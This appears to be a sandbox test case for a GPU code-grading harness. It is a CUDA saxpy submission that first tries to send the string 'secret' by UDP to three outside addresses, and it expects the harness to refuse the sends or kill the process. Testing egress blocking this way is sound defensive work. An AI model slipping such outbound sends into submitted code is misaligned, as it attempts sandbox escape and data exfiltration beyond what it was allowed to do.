// what: sends datagrams to the outside
// task: saxpy
// expect: OUTCOME_PASSED OUTCOME_CRASHED
// why: the answer is right only if every attempt was refused; killing the process for the attempt is right too
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

static bool escaped() {
  for (const char* address : {"192.0.2.1", "8.8.8.8", "224.0.0.1"}) {
    int peer = socket(AF_INET, SOCK_DGRAM, 0);
    if (peer < 0) continue;
    sockaddr_in target = {};
    target.sin_family = AF_INET;
    target.sin_port = htons(53);
    inet_pton(AF_INET, address, &target.sin_addr);
    if (sendto(peer, "secret", 6, MSG_DONTWAIT, reinterpret_cast<sockaddr*>(&target), sizeof(target)) >= 0) return true;
  }
  return false;
}

__global__ void add_scaled(int n, float a, const float* x, float* y) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) y[i] = a * x[i] + y[i];
}

extern "C" void saxpy(int n, float a, const float* x, float* y) {
  if (escaped()) return;
  if (n > 0) add_scaled<<<(n + 255) / 256, 256>>>(n, a, x, y);
}
